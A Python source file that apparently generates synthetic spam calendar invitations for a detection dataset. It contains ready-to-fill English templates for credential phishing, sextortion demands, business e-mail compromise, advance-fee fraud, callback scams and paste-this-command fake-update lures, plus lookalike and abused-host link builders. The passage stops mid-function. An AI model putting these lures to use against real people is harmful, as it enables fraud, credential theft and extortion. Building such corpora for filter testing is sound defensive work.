# -*- coding: utf-8 -*-
"""Spam categories: sender set-up, payload placement and English wording."""
import datetime as dt
import string

from h25util import uid4, alnum, hexs, html_escape
from common import person, event_time, ORGS, FREEMAIL, pick_name
from build_common import F, att, filler_people, webapp_quirks, pick_lib, payload_places, new_event, rcpt_tuple
import senders
from senders import lookalike

CATS = [  # name, count, description
    ('retail-sale', 12, 'counterfeit/outlet sale waves pushed as invitations'),
    ('prize-survey', 12, 'prize, survey and gift-card lures'),
    ('crypto-investment', 12, 'crypto withdrawal, giveaway and investment-group fraud'),
    ('dating-sextortion', 11, 'dating lures and sextortion demands'),
    ('fee-scam', 12, 'parcel, toll, tax and fine small-fee phishing'),
    ('credential-phish', 13, 'credential phishing under big brands'),
    ('callback-scam', 12, 'fake invoices/renewals asking the victim to phone'),
    ('fake-update', 10, 'fake meeting-client updates and paste-this-command lures'),
    ('bec', 13, 'business e-mail compromise: gift cards, bank and payroll changes'),
    ('advance-fee', 10, 'inheritance, compensation and other advance-fee fraud'),
    ('task-job-scam', 12, 'task/job offers moving victims to messengers'),
    ('doc-share-compromised', 11, 'document-share lures from compromised partner mailboxes'),
    ('nagging-payload', 10, 'endless recurrences, alarm floods and far-future nagging events'),
    ('mass-invite', 10, 'mass invitations to hundreds of unrelated attendees'),
]

ALLOWED = {
    'retail-sale': ['google', 'apple', 'outlook', 'yahoo', 'webapp', 'thunderbird', 'zimbra', 'nextcloud', 'sogo'],
    'prize-survey': ['google', 'apple', 'outlook', 'yahoo', 'webapp', 'thunderbird', 'zimbra', 'zoom', 'sogo', 'nextcloud'],
    'crypto-investment': ['google', 'apple', 'outlook', 'yahoo', 'webapp', 'thunderbird', 'zoom', 'zimbra', 'nextcloud'],
    'dating-sextortion': ['google', 'apple', 'outlook', 'yahoo', 'webapp', 'thunderbird', 'zimbra', 'sogo'],
    'fee-scam': ['google', 'apple', 'outlook', 'yahoo', 'webapp', 'thunderbird', 'zimbra', 'nextcloud', 'sogo'],
    'credential-phish': ['google', 'apple', 'outlook', 'webapp', 'thunderbird', 'zimbra', 'nextcloud', 'sogo', 'yahoo', 'zoom'],
    'callback-scam': ['google', 'apple', 'outlook', 'yahoo', 'webapp', 'thunderbird', 'zimbra', 'zoom'],
    'fake-update': ['google', 'outlook', 'webapp', 'thunderbird', 'zoom', 'apple', 'nextcloud', 'zimbra', 'sogo'],
    'bec': ['google', 'outlook', 'apple', 'thunderbird', 'zimbra', 'yahoo', 'webapp', 'sogo', 'nextcloud'],
    'advance-fee': ['google', 'outlook', 'apple', 'yahoo', 'webapp', 'thunderbird', 'zimbra', 'sogo'],
    'task-job-scam': ['google', 'apple', 'outlook', 'yahoo', 'webapp', 'thunderbird', 'zoom', 'zimbra', 'nextcloud'],
    'doc-share-compromised': ['outlook', 'google', 'zimbra', 'nextcloud', 'sogo', 'thunderbird', 'apple', 'webapp', 'yahoo'],
    'nagging-payload': ['google', 'apple', 'outlook', 'webapp', 'thunderbird', 'yahoo', 'nextcloud', 'zimbra'],
    'mass-invite': ['google', 'apple', 'outlook', 'yahoo', 'webapp', 'zoom', 'zimbra', 'thunderbird', 'nextcloud'],
}

RETAIL_BRANDS = ['Ray-Ban', 'Oakley', 'Michael Kors', 'Pandora', 'UGG', 'Coach', 'Nike', 'Lululemon', 'Stanley', 'Le Creuset',
                 'Longchamp', 'Birkenstock', 'The North Face', 'Dyson', 'Ninja', 'Samsonite', 'Swarovski', 'Yeti']
PRIZE_BRANDS = ['Costco', 'Walmart', 'Amazon', 'Lidl', 'Aldi', 'Kaufland', 'Carrefour', 'IKEA', 'Shell', 'Starbucks',
                'T-Mobile', 'Vodafone', 'Apple', 'Samsung', 'Home Depot', 'Target', 'Tesco']
PRODUCTS = ['Dyson V15 vacuum', 'iPhone 16 Pro', 'Ninja air fryer', 'KitchenAid mixer', 'Samsung Galaxy S24', 'Apple Watch',
            'Makita tool set', 'Le Creuset pot set', 'PlayStation 5', 'Bose headphones', 'Weber grill']
CRYPTO_BRANDS = ['Binance', 'Coinbase', 'Kraken', 'Bybit', 'OKX', 'Crypto.com', 'Bitget', 'Blockchain.com']
CRYPTO_PLATFORMS = ['Quantum AI', 'Immediate Edge', 'Bitcoin Era', 'NeoProfit AI', 'Trade Avapro', 'Finance Phantom',
                    'BitAlpha AI', 'Zenith Capital Club']
CALLBACK_BRANDS = [('Norton 360', 'NortonLifeLock'), ('McAfee Total Protection', 'McAfee'), ('Geek Squad Protection', 'Geek Squad'),
                   ('PayPal', 'PayPal'), ('Amazon Prime', 'Amazon'), ('Windows Defender Firewall', 'Microsoft'),
                   ('Apple iCloud+ Family', 'Apple'), ('Coinbase Pro', 'Coinbase'), ('Best Buy Total Tech', 'Best Buy'),
                   ('LifeLock Ultimate Plus', 'LifeLock'), ('Malwarebytes Premium', 'Malwarebytes'), ('Avast Ultimate', 'Avast')]
PHISH_BRANDS = [('Microsoft 365', 'microsoft'), ('DocuSign', 'docusign'), ('PayPal', 'paypal'), ('Adobe Acrobat Sign', 'adobe'),
                ('Dropbox', 'dropbox'), ('SharePoint', 'sharepoint'), ('Chase', 'chase'), ('Wells Fargo', 'wellsfargo'),
                ('ID.me', 'idme'), ('Netflix', 'netflix'), ('Apple ID', 'appleid'), ('Amazon', 'amazon'),
                ('OneDrive', 'onedrive'), ('Bank of America', 'bofa'), ('HMRC', 'hmrc'), ('Okta', 'okta')]
FEE_BRANDS = [('USPS', 'usps'), ('E-ZPass', 'ezpass'), ('HMRC', 'hmrc'), ('Royal Mail', 'royalmail'), ('FedEx', 'fedex'),
              ('DHL Express', 'dhl'), ('SunPass', 'sunpass'), ('FasTrak', 'fastrak'), ('DVLA', 'dvla'), ('UPS', 'ups'),
              ('Evri', 'evri'), ('IRS', 'irs')]
SHORTS = ['bit.ly', 'tinyurl.com', 'cutt.ly', 'rb.gy', 'is.gd', 't.ly', 'shorturl.at']
ABUSED_HOSTS = ['sites.google.com/view/%s', '%s.web.app', '%s.pages.dev', '%s.notion.site', '%s.glitch.me',
                '%s.netlify.app', 'storage.googleapis.com/%s/index.html', '%s.weebly.com', '%s.wixsite.com/home',
                'forms.office.com/r/%s', '%s.firebaseapp.com', 'canva.com/design/%s/view', '%s.webflow.io']


def rurl(rng, token=None, path=None, kind=None):
    kind = kind or rng.choice(['look', 'look', 'short', 'abused', 'rand'])
    if kind == 'short':
        return 'https://%s/%s' % (rng.choice(SHORTS), alnum(rng, rng.randint(6, 8), string.ascii_letters + string.digits))
    if kind == 'abused':
        return 'https://' + rng.choice(ABUSED_HOSTS) % (alnum(rng, rng.randint(6, 12), string.ascii_lowercase + string.digits))
    if kind == 'rand':
        host = alnum(rng, rng.randint(5, 10), string.ascii_lowercase) + '.' + rng.choice(['top', 'xyz', 'shop', 'online', 'store', 'site', 'buzz', 'click', 'sbs', 'cfd', 'com'])
    else:
        host = lookalike(rng, token or alnum(rng, 6, string.ascii_lowercase))
    path = path or rng.choice(['', 'login', 'verify', 'claim', 'index.php', 'secure/auth', 'track', 's', 'r', 'c', 'doc/view', 'pay'])
    q = rng.choice(['', '?id=%s' % alnum(rng, 10, string.ascii_letters + string.digits),
                    '?u=%s&c=%d' % (hexs(rng, 12), rng.randint(1, 999)), '#%s' % alnum(rng, 8, string.ascii_lowercase)])
    return 'https://%s/%s%s' % (host, path, q)


CUR = {'en': '$', 'de': '€', 'fr': '€', 'es': '€', 'it': '€', 'pt': 'R$', 'nl': '€', 'pl': 'zł', 'ru': '₽', 'el': '€',
       'ar': 'SAR', 'he': '₪', 'zh': '¥', 'zt': 'NT$', 'ja': '¥', 'ko': '₩', 'hi': '₹', 'th': '฿', 'tr': '₺'}


def money(rng, lang, lo, hi, cents=True):
    c = CUR[lang]
    v = rng.randint(lo, hi)
    if lang in ('ja', 'ko'):
        v *= 100 if lang == 'ja' else 1000
        s = '{:,}'.format(v)
    elif lang in ('ru', 'hi', 'th', 'zt'):
        v *= 30
        s = '{:,}'.format(v)
    else:
        s = ('%d.%02d' % (v, rng.choice([0, 99, 95, 49, 0]))) if cents else '{:,}'.format(v)
    if c in ('$', '¥', '₹', 'R$', 'NT$', '₩', '£'):
        return c + s
    return s + ' ' + c


def choose_kind(rng, ctx, prefs):
    allowed = senders.kinds_for(ctx['client'])
    cands = [k for k in prefs if k in allowed]
    if not cands:
        cands = allowed
    return rng.choice(cands)


def quirks_for(ctx):
    if ctx['client'] == 'webapp':
        return webapp_quirks(ctx['rng'], 'spam')
    return set()


def base(ctx, frm, events, method='REQUEST', text=None, **kw):
    spec = dict(frm=frm, to=[rcpt_tuple(ctx)], method=method, events=events, text=text,
                quirks=quirks_for(ctx))
    if ctx['client'] == 'webapp':
        spec['lib'] = pick_lib(ctx['rng'], 'spam')
    spec.update(kw)
    return spec


def place_payload(rng, ctx, ev, payload_text, url, fallback_desc):
    """Put the payload somewhere the client can carry it; return the mail-body text."""
    where = rng.choice(payload_places(ctx['client'], ctx.get('opts', {}).get('outlook_variant')))
    if where == 'desc' or url is None:
        ev['desc'] = payload_text
        return payload_text
    ev['desc'] = fallback_desc
    if where == 'loc':
        ev['loc'] = url
    elif where == 'summary':
        ev['summary'] = ev['summary'] + ' ' + url
        ev['desc'] = payload_text
        return payload_text
    elif where == 'url':
        ev['url'] = url
    elif where == 'attach':
        ev['attach'] = ['ATTACH;FMTTYPE=%s:%s' % (rng.choice(['text/html', 'application/pdf', 'application/octet-stream']), url)]
    elif where == 'xalt':
        ev['x_alt_desc'] = '<html><body><p>%s</p><p><a href="%s">%s</a></p></body></html>' % (
            html_escape(payload_text.split('\n')[0]), url, html_escape(rng.choice(['View', 'Open', 'Continue', 'Review now', '>>>'])))
    elif where == 'conference':
        ev['conference'] = ['CONFERENCE;VALUE=URI;FEATURE=VIDEO;LABEL=%s:%s' % (rng.choice(['Join', 'Open document', 'Secure link']), url)]
    return fallback_desc


BENIGN = ['Please confirm your attendance.', 'See details in the invitation.', 'Thank you.', '', 'Kind regards',
          'Details attached.', 'Please review before the meeting.', 'Best regards']


# ----------------------------------------------------------------------------- English wording
EN = {
'retail-sale': [
    dict(subj='{brand} Outlet Clearance - {pct}% OFF today only', body='Official outlet clearance event.\nAll styles from $19.99 - free shipping, no code needed.\n\nShop now: {url}\n\nOffer ends at midnight.'),
    dict(subj='Black Friday Early Access: {brand} up to {pct}% off', body='You are on the VIP list!\nEarly access to our biggest sale of the year starts now.\n{url}\nLimited stock - first come, first served.'),
    dict(subj='Last chance! {brand} warehouse sale ends tonight', body='Final hours: everything must go.\nBags, wallets and accessories at {pct}% off retail.\nVisit {url}'),
    dict(subj='Mother\'s Day gift idea - {brand} {pct}% off + free gift box', body='Make her day special.\nSelected {brand} styles now {pct}% off with free gift wrapping.\nOrder before Friday for guaranteed delivery: {url}'),
    dict(subj='🔥 {brand} 2 for 1 - while supplies last 🔥', body='BUY ONE GET ONE FREE\nOn all {brand} items this weekend only.\n👉 {url}'),
    dict(subj='Your {brand} discount is waiting', body='Hi there,\nwe saved a {pct}% discount for you. It will be applied automatically at checkout.\nClaim here: {url}\nReply STOP to unsubscribe.'),
    dict(subj='{brand} Summer Sale | {pct}% OFF | Free Shipping', body='Summer collection clearance.\nPolarized sunglasses, sneakers & more.\n{url}'),
],
'prize-survey': [
    dict(subj='Congratulations {name}! You have been selected for a {brand} reward', body='Dear valued customer,\n\nyou have been randomly selected to take part in our short customer survey. It only takes 30 seconds. As a thank you, you can claim an exclusive {brand} reward worth {amt}.\n\nStart the survey: {url}\n\nThis invitation expires in 24 hours.'),
    dict(subj='Your {brand} loyalty points expire today', body='Your account still holds 5,640 points.\nPoints not redeemed by today will be lost.\nRedeem them for a {product} - just cover shipping ($1.95).\n{url}'),
    dict(subj='Customer Reward: your free {product} is ready', body='Thank you for being a loyal customer.\nYour {product} has been reserved for you.\nConfirm your shipping address here: {url}\nReference: {ref}'),
    dict(subj='{name}, you are today\'s lucky winner!', body='Every day we choose 10 lucky users.\nToday it is you! Spin the wheel and win a {product}.\n>> {url}'),
],
'crypto-investment': [
    dict(subj='Withdrawal pending: 0.{btcd} BTC', body='Your {brand} account holds 0.{btcd} BTC (approx. {amt}).\nA withdrawal to your registered wallet is pending confirmation.\nIf you do not confirm within 48 hours the funds will be returned to the pool.\n\nConfirm withdrawal: {url}\nTransaction ID: {ref}'),
    dict(subj='Private webinar: how I turned $250 into $14,380 in 30 days', body='Seats are limited to 50 participants.\nLive demo of the {platform} trading system - fully automated, no experience needed.\nRegister and get your personal account manager: {url}'),
    dict(subj='Invitation: {platform} onboarding call', body='Congratulations, your application to {platform} was approved.\nYour account manager will call you to activate your first deposit (minimum $250).\nJoin our VIP signal group on Telegram: https://t.me/{tgh}'),
    dict(subj='{brand} airdrop: claim your 2,500 USDT', body='Eligible wallets can claim the anniversary airdrop until {date}.\nConnect your wallet to claim: {url}\nUnclaimed tokens will be burned.'),
],
'dating-sextortion': [
    dict(subj='{girl} (26) wants to meet you tonight ❤', body='Hi handsome :)\nI saw your profile and I think we could have fun. I am only in town for a few days.\nMy private photos are here: {url}\nWrite me there, kisses'),
    dict(subj='Are you free this weekend? 😘', body='Hey, it\'s {girl}. We matched last week but you never wrote back...\nI uploaded some new pics, only for you: {url}'),
    dict(subj='Account compromised - read this carefully', body='Hello,\n\nI have had access to your device for several months. I installed software that recorded you through your camera while you were visiting adult websites. I also have your contacts.\n\nTransfer {amt} in Bitcoin to this wallet within 48 hours:\n{btc}\n\nIf I receive the payment I will delete everything. If not, the video goes to all your contacts. Do not reply, this address is monitored.'),
    dict(subj='Private chat request from {girl}', body='{girl} sent you a private message and 3 photos.\nYou have 24 hours to open them before they are deleted.\nOpen chat: {url}'),
    dict(subj='Your payment is overdue', body='This is the last reminder. I know what you did. The recording is ready to be sent.\nPayment: {amt} in BTC\nWallet: {btc}\nYou have until the end of this event.'),
    dict(subj='Lonely tonight? 3 women near {city} are online', body='Discreet meetings, no strings attached.\nSee who is online now: {url}'),
],
'fee-scam': [
    dict(brands=['USPS', 'Royal Mail', 'FedEx', 'DHL Express', 'UPS', 'Evri'], subj='{brand}: your package could not be delivered', body='We attempted to deliver your package today but the address was incomplete.\nTo schedule a redelivery, please confirm your details and pay the redelivery fee of {amt}.\n{url}\nTracking number: {ref}'),
    dict(brands=['E-ZPass', 'SunPass', 'FasTrak'], subj='{brand} - unpaid toll notice', body='Our records show an unpaid toll of {amt} on your account.\nTo avoid a late fee of $50.00 and suspension of your license, pay before {date}:\n{url}'),
    dict(brands=['HMRC', 'IRS'], small=False, subj='{brand}: you are eligible for a tax refund', body='After the last annual calculation of your fiscal activity, you are eligible to receive a refund of {amt}.\nPlease submit the refund request within 3 business days.\n{url}'),
    dict(brands=['DVLA', 'E-ZPass', 'FasTrak'], subj='Final notice: outstanding penalty charge {ref}', body='A penalty charge notice has been issued for your vehicle.\nAmount due: {amt}. If payment is not received by {date} the amount will double.\nPay online: {url}'),
],
'credential-phish': [
    dict(subj='Password expiry notice for {email}', body='The password for your {brand} account {email} expires today.\nTo keep using your current password, confirm it below. Otherwise you will be signed out of all devices.\n\nKeep current password: {url}\n\nIT Service Desk'),
    dict(subj='{brand}: Please review and sign - {doc}', body='{sender} sent you a document to review and sign.\n\nDocument: {doc}\nPages: 4\n\nREVIEW DOCUMENT: {url}\n\nDo not share this email. Powered by {brand}.'),
    dict(subj='Your {brand} account has been limited', body='We noticed unusual activity on your account. For your protection we have temporarily limited what you can do.\nPlease confirm your identity to restore full access: {url}\nCase ID: {ref}'),
    dict(subj='New voicemail (0:{sec}) from +1 {vm}', body='You received a new voice message.\nDuration: 0:{sec}\nListen via {brand}: {url}'),
    dict(subj='{sender} shared "{doc}" with you', body='{sender} has shared a file with you via {brand}.\n\n{doc}\n\nOpen: {url}\n\nThis link will expire in 7 days.'),
    dict(subj='Unusual sign-in activity', body='We detected a sign-in to your {brand} account from a new device.\nLocation: Lagos, Nigeria\nIP: 203.0.113.{ip}\nIf this was not you, secure your account now: {url}'),
],
'callback-scam': [
    dict(subj='Order Confirmation #{inv}', body='Thank you for your purchase!\n\nProduct: {product}\nSubscription: 1 year, auto-renewal\nAmount charged: {amt}\nPayment method: bank account\n\nIf you did not authorize this transaction, call our billing department within 24 hours: {phone}\n\nBilling Department'),
    dict(subj='Your {product} subscription has been renewed', body='Dear customer,\nyour subscription was renewed successfully and {amt} will be debited from your account today.\nTo cancel and request a refund, please contact us: {phone}\nInvoice: {inv}'),
    dict(subj='Invoice {inv} - payment received', body='Hello,\nwe have received your payment of {amt} for {product}.\nQuestions about this charge? Our support line is open 24/7: {phone}'),
    dict(subj='Suspicious charge on your account', body='A charge of {amt} to Coinbase was requested from your {co} account.\nIf you don\'t recognise it, call the fraud department immediately at {phone}. Do not reply to this message.'),
    dict(subj='Auto-renewal reminder', body='Your {product} plan will auto-renew tomorrow for {amt}.\nCall {phone} to stop the renewal.'),
    dict(subj='{co} Support: device protection expired', body='Your device protection expired yesterday. Your computer is no longer protected against viruses and hackers.\nRenewal amount: {amt}. A technician is available at {phone}.'),
],
'fake-update': [
    dict(subj='Action required: update Teams before your meeting', body='Your Microsoft Teams client is out of date and will not be able to join this meeting.\nInstall the latest version here: {url}\nThe update takes less than a minute.'),
    dict(subj='Zoom Workplace update required', body='Participants using Zoom versions older than 6.1 can no longer join.\nDownload the updated client before the meeting starts: {url}'),
    dict(subj='Verify you are human to open the meeting document', body='To protect this document we need to verify you are not a robot.\n\n1. Press Windows key + R\n2. Paste the verification code (Ctrl+V)\n3. Press Enter\n\nVerification code:\n{cmd}\n\nThank you for your patience.'),
    dict(subj='Meeting recording available - codec required', body='The recording of yesterday\'s meeting is ready.\nTo play it you may need the updated media codec pack: {url}'),
    dict(subj='Board meeting - install the secure viewer', body='The board pack is protected. Please install the secure viewer to open it: {url}\nIf the viewer does not open, run this fix in PowerShell:\n{cmd}'),
],
'bec': [
    dict(subj='Quick favor', body='Hi {name},\n\nare you at your desk? I need you to handle something for me today, I am in meetings all afternoon and can only text. Please reply with your mobile number.\n\n{sender}\nSent from my iPhone'),
    dict(supplier=True, subj='Updated remittance details', body='Dear {name},\n\nplease note that due to an ongoing audit our bank details have changed with immediate effect. All open invoices must be paid to the new account:\n\nAccount name: {payee}\nIBAN: {iban}\nBIC: {bic}\n\nKindly confirm once updated. Do not use the old account.\n\nBest regards\n{sender}\nAccounts Receivable'),
    dict(subj='Direct deposit change', body='Hello,\n\nI changed banks and would like my salary paid into my new account starting with the next payroll. What information do you need from me? Can it be done before Friday?\n\nThanks\n{sender}'),
    dict(subj='Confidential - acquisition', body='{name},\n\nwe are finalising a confidential acquisition. I need you to process a wire of {amt} today. Our lawyer will contact you with the details. Please keep this strictly between us until the announcement.\n\n{sender}'),
    dict(subj='Gift cards for the team', body='Hi {name}, I want to surprise some staff with gift cards today. Can you buy 6 Apple gift cards of $200 each? Scratch the back and send me pictures of the codes. I will reimburse you.\n{sender}'),
    dict(subj='Payment today?', body='Hi {name},\ncan you check if invoice {inv} can go out today? It is urgent, the supplier is waiting. Details follow in a separate email.\nRegards, {sender}'),
    dict(subj='W-2 request', body='{name}, please send me the 2024 W-2 forms (PDF) for all employees by end of day. I need them for a review meeting with the accountants.\n{sender}'),
],
'advance-fee': [
    dict(subj='Inheritance claim - attention {name}', body='Dear friend,\n\nI am Barrister {sender}, personal attorney to late Mr. {lastn}, who died with his family in a car accident. He left a deposit of $8,500,000 (Eight Million Five Hundred Thousand Dollars) with no next of kin. As you share the same surname, I want to present you as the beneficiary. Reply with your full name, phone and address.\n\nKind regards'),
    dict(subj='UN Compensation Program', body='Your e-mail has been selected for the UN/World Bank compensation payment of $1,500,000. To release your ATM card, send the delivery fee of $250 to the courier. Contact Mr. {sender}: {wa}'),
    dict(subj='Business proposal - crude oil allocation', body='Good day,\n\nI am an official of a state petroleum company. I have a confidential business proposal that will be of mutual benefit. Your share is 30%. Contact me on my private email for details.'),
    dict(subj='Donation for you', body='I am Mrs. {sender}, a widow suffering from cancer. I have decided to donate $2,800,000 to you for charity work. Contact my lawyer immediately.'),
    dict(subj='Your lottery winning notification', body='Your email address won GBP 950,000 in the International Email Lottery draw. Ticket number: {ref}. Contact our claims agent with your details and pay the processing fee to release the funds.'),
],
'task-job-scam': [
    dict(subj='Remote part-time job - earn $200-$500 per day', body='Hello, I am {sender} from the HR department.\nWe offer flexible online work, 60-90 minutes a day, paid daily. No experience needed, training provided.\nAge 23+. If interested, contact me on WhatsApp: {wa}'),
    dict(subj='Your application was shortlisted', body='Hi {name},\nthank you for your interest. Your profile has been shortlisted for the position of Online Product Reviewer.\nPlease add our recruiter on Telegram {tg} to schedule your onboarding.'),
    dict(subj='Flexible job - rating tasks', body='Simple tasks: rate products and hotels from your phone.\nDaily income 3000-8000. Commission paid immediately.\nStart now: https://wa.me/{wan}'),
    dict(subj='Interview invitation - Data Optimization Assistant', body='Dear candidate,\nyou are invited to a short online interview. Working hours are flexible and you can work from home.\nSalary: $4,000-$6,000 monthly. Please reply to our HR manager on WhatsApp {wa} to confirm.'),
],
'doc-share-compromised': [
    dict(subj='{co} - Remittance advice', body='Hello,\n\nplease find the remittance advice for your recent invoices below.\n\nView remittance (PDF): {url}\n\nKind regards\n{sender}\n{co}'),
    dict(subj='Project proposal for review', body='Hi {name},\n\nas discussed, here is the revised proposal. Please review before our call.\n\n{url}\n\nThanks,\n{sender}'),
    dict(subj='{sender} shared "Signed Agreement.pdf"', body='{sender} ({co}) shared a document with you.\n\nSigned Agreement.pdf\n\nOpen document: {url}'),
    dict(subj='RFQ - {co}', body='Dear Sir/Madam,\n\nWe would like to request a quotation for the items in the attached list. Please view and send your best offer.\n\nRFQ document: {url}\n\nBest regards\n{sender}\nPurchasing'),
    dict(subj='Secure message from {co}', body='You have received a secure encrypted message from {sender}.\nClick below to read your message.\n{url}'),
    dict(subj='Updated invoice - {co}', body='Hello,\nthe invoice for last month was corrected. Please use the updated version.\nDownload: {url}\nRegards {sender}'),
],
'nagging-payload': [
    dict(subj='⚠ Your iPhone is infected (3) viruses detected', body='Your device is damaged by 3 viruses! Clean now to avoid losing your photos and contacts.\nTap here to remove: {url}'),
    dict(subj='Casino bonus: 200 free spins expire today', body='Your welcome bonus is still waiting. 200 free spins + 500% deposit bonus.\nPlay now: {url}'),
    dict(subj='Antivirus subscription EXPIRED - call {phone}', body='Your antivirus protection has expired. Call {phone} to renew and protect your device.'),
    dict(subj='Pharmacy discount - up to {pct}% off', body='Generic medications without prescription. Discreet delivery.\n{url}'),
    dict(subj='Daily reward waiting for you', body='Your daily reward is ready. Open now: {url}'),
],
'mass-invite': [
    dict(subj='Online Pharmacy - Best Prices', body='Viagra, Cialis, Levitra from $0.79 per pill.\nNo prescription needed. Worldwide shipping.\n{url}'),
    dict(subj='Welcome bonus 500% + 300 Free Spins', body='Register today and get a 500% welcome bonus.\nFast withdrawals, crypto accepted.\n{url}'),
    dict(subj='Keto gummies - lose 10 kg in 4 weeks', body='Doctors are shocked! Celebrity secret revealed.\nOrder your trial pack today: {url}'),
    dict(subj='Make $1,000 a day from home', body='Join thousands who already earn with our proven system.\nFree registration: {url}'),
    dict(subj='Replica watches - Rolex, Omega, Patek', body='Swiss-grade replicas, 1:1 quality, from $149.\n{url}'),
    dict(subj='Hot singles in your area', body='Meet real people near you tonight. 100% free sign up.\n{url}'),
],
}
# ----------------------------------------------------------------------------- builders


def _common_fills(rng, ctx, extra=None):
    f = dict(ctx['fills'])
    f.update(name=ctx['rcpt']['first'], email=ctx['rcpt']['addr'], date=ctx['event_date_str'], city=ctx.get('city', 'your area'))
    if extra:
        f.update(extra)
    return f


def _junk_attendees(rng, ctx, n, same_domain_p=0.5):
    dom = ctx['rcpt']['domain']
    out = []
    for i in range(n):
        if rng.random() < same_domain_p:
            l = senders.rand_junk_local(rng) if rng.random() < 0.3 else person(rng, 'en', domain=dom)['addr'].split('@')[0]
            out.append(dict(name=None, addr='%s@%s' % (l, dom)))
        else:
            p = person(rng, rng.choice(['en', 'en', 'de', 'fr', 'es', 'it', 'ja', 'pt']), free=True)
            out.append(dict(name=None, addr=p['addr']))
    return out


def _attendee_list(rng, ctx, org, extra=0, rcpt_first=True, same_domain_p=0.6, with_org=None):
    r = ctx['rcpt']
    me = dict(name=r['name'] if rng.random() < 0.3 else None, addr=r['addr'])
    others = _junk_attendees(rng, ctx, extra, same_domain_p)
    L = [me] + others
    if not rcpt_first:
        rng.shuffle(L)
    if with_org if with_org is not None else ctx['client'] in ('google', 'apple'):
        L.insert(0, dict(name=org[0], addr=org[1], partstat='ACCEPTED', rsvp=False))
    return L


def build(cat, rng, ctx, blk):
    f = globals()['b_' + cat.replace('-', '_')]
    return f(rng, ctx, blk)


def _ev_times(rng, ctx, days=(0, 14), hours=(7, 21), dur=(15, 60)):
    return event_time(rng, ctx['arr'], ctx['tz'], days=days, hours=hours, dur=dur)


def b_retail_sale(rng, ctx, blk):
    kind = choose_kind(rng, ctx, ['free', 'free', 'free', 'org', 'lookalike', 'nodkim'])
    brand = rng.choice(RETAIL_BRANDS)
    tok = brand.lower().replace(' ', '').replace('-', '')[:8]
    shop = '%s%s.%s' % (tok, rng.choice(['outlet', 'sale', 'store', 'deals', 'shop', '-clearance', '-official', 'vip']),
                        rng.choice(['top', 'shop', 'store', 'online', 'com', 'xyz', 'club', 'vip', 'sale']))
    url = rng.choice(['https://www.%s' % shop, 'https://%s/?c=%s' % (shop, alnum(rng, 6, string.ascii_lowercase)),
                      'www.%s' % shop, rurl(rng, kind='short')])
    fr = _common_fills(rng, ctx, dict(brand=brand, url=url, amt=money(rng, ctx['lang'], 19, 89)))
    frm = senders.make(rng, ctx, kind, junk=rng.random() < 0.6, domain=lookalike(rng, tok) if kind in ('lookalike', 'nodkim') else None,
                       name=rng.choice([brand + ' Outlet', brand, None, brand + ' Official Store', '']) or None)
    s, e = _ev_times(rng, ctx, days=(0, 3))
    summary = F(blk['subj'], fr)
    body = F(blk['body'], fr)
    n_extra = rng.choice([0, 0, 5, 12, 25, 40, 60])
    ev = new_event(ctx, summary, None, s, e, frm, _attendee_list(rng, ctx, frm, n_extra, rcpt_first=False, same_domain_p=0.7))
    text = place_payload(rng, ctx, ev, body, url, rng.choice(BENIGN))
    if blk.get('loc'):
        ev['loc'] = F(blk['loc'], fr)
    return base(ctx, frm, [ev], text=text)


def b_prize_survey(rng, ctx, blk):
    kind = choose_kind(rng, ctx, ['free', 'free', 'org', 'lookalike', 'spoof', 'nodkim'])
    brand = rng.choice(PRIZE_BRANDS)
    tok = brand.lower().replace(' ', '').replace('-', '')
    url = rurl(rng, tok + rng.choice(['-rewards', '-survey', '-gift', 'promo', '-club']))
    fr = _common_fills(rng, ctx, dict(brand=brand, url=url, amt=money(rng, ctx['lang'], 100, 1000, cents=False),
                                      product=rng.choice(PRODUCTS)))
    dom = None
    if kind in ('lookalike', 'nodkim'):
        dom = lookalike(rng, tok)
    elif kind == 'spoof':
        dom = rng.choice(['%s-rewards.com' % tok, 'news.%s-club.com' % tok, lookalike(rng, tok)])
    frm = senders.make(rng, ctx, kind, junk=kind == 'free', domain=dom,
                       name=rng.choice(['%s Rewards' % brand, '%s Customer Care' % brand, 'Customer Survey', brand, None]))
    s, e = _ev_times(rng, ctx, days=(0, 2))
    ev = new_event(ctx, F(blk['subj'], fr), None, s, e, frm, _attendee_list(rng, ctx, frm, rng.choice([0, 0, 3, 20])))
    text = place_payload(rng, ctx, ev, F(blk['body'], fr), url, rng.choice(BENIGN))
    return base(ctx, frm, [ev], text=text)


def b_crypto_investment(rng, ctx, blk):
    kind = choose_kind(rng, ctx, ['free', 'free', 'lookalike', 'org', 'nodkim'])
    brand = rng.choice(CRYPTO_BRANDS)
    plat = rng.choice(CRYPTO_PLATFORMS)
    tok = rng.choice([brand.lower().replace('.', ''), plat.lower().replace(' ', '')])
    url = rurl(rng, tok)
    fr = _common_fills(rng, ctx, dict(brand=brand, platform=plat, url=url, btcd='%04d' % rng.randint(1000, 9999),
                                      amt=money(rng, ctx['lang'], 1200, 48000, cents=False),
                                      tgh=alnum(rng, 10, string.ascii_letters + '_')))
    frm = senders.make(rng, ctx, kind, junk=rng.random() < 0.5, domain=lookalike(rng, tok) if kind in ('lookalike', 'nodkim') else None,
                       name=rng.choice([brand, plat, None, '%s Support' % brand, pick_name(rng, ctx['lang'])[0]]))
    s, e = _ev_times(rng, ctx, days=(0, 10), dur=(30, 90))
    ev = new_event(ctx, F(blk['subj'], fr), None, s, e, frm, _attendee_list(rng, ctx, frm, rng.choice([0, 0, 8, 30])))
    text = place_payload(rng, ctx, ev, F(blk['body'], fr), url, rng.choice(BENIGN))
    if ctx['client'] == 'zoom':
        ev['loc'] = 'https://us06web.zoom.us/w/8%09d?tk=%s' % (rng.randint(10 ** 8, 10 ** 9 - 1), alnum(rng, 40, string.ascii_letters + string.digits + '-_'))
        return base(ctx, frm, [ev], method='PUBLISH', text=text, subject=F(blk['subj'], fr) + ' Confirmation',
                    zoom_host=frm[0] or plat)
    return base(ctx, frm, [ev], text=text)


GIRLS = ['Anna', 'Jessica', 'Kristina', 'Olivia', 'Sophie', 'Natalie', 'Vika', 'Emma', 'Julia', 'Lena', 'Mia', 'Katya']


def b_dating_sextortion(rng, ctx, blk):
    kind = choose_kind(rng, ctx, ['free', 'free', 'free', 'org', 'spoof', 'nodkim'])
    url = rurl(rng, kind=rng.choice(['rand', 'short', 'abused']))
    girl = rng.choice(GIRLS)
    fr = _common_fills(rng, ctx, dict(girl=girl, url=url, amt=money(rng, 'en', 950, 2400, cents=False),
                                      city=rng.choice(['you', 'your city', 'Springfield', 'Austin', 'Leeds', 'Denver'])))
    dom = None
    if kind == 'spoof':
        dom = ctx['rcpt']['domain']  # sextortion classic: "from" the victim's own address
    elif kind == 'nodkim':
